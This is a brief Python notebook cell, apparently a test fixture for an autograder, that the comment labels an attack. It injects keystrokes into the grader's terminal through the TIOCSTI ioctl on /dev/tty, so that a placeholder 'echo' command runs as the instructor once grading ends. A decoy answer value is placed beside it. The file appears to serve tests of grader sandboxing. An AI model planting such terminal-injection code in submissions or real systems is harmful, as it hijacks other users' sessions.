# Attack: push a command into the grader's terminal (TIOCSTI on /dev/tty), to
# run as the instructor once the grader exits. The marker is filled in by the test.
# %% id=answer-p95
import fcntl
import os
import termios

try:
    tty = os.open("/dev/tty", os.O_RDWR)
    for byte in b"echo __MARK__\n":
        fcntl.ioctl(tty, termios.TIOCSTI, bytes([byte]))
    typed = "typed"
except OSError as err:
    typed = type(err).__name__
interpolated_p95 = 5.95
